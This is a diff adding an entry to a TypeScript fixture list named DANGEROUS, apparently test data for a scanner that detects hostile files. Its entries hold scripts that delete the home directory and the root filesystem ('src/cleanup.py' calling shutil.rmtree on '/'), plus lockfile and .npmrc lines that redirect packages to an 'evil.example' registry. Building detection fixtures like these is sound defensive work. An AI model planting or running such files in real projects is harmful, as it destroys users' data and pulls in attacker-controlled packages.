@@ -31,4 +31,5 @@ export const DANGEROUS: readonly (readonly [path: string, content: string])[] = 
   ['wipe.py', "#!/usr/bin/env python3\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"],
   ['package-lock.json', '{"packages":{"node_modules/a":{"resolved":"http://registry.evil.example/a/-/a-1.0.0.tgz"}}}'],
   ['.npmrc', 'registry=http://packages.evil.example/\n'],
+  ['src/cleanup.py', "import shutil\n\n\ndef clean(path):\n    shutil.rmtree(path)\n\n\nif __name__ == '__main__':\n    clean('/')\n"],
 ]
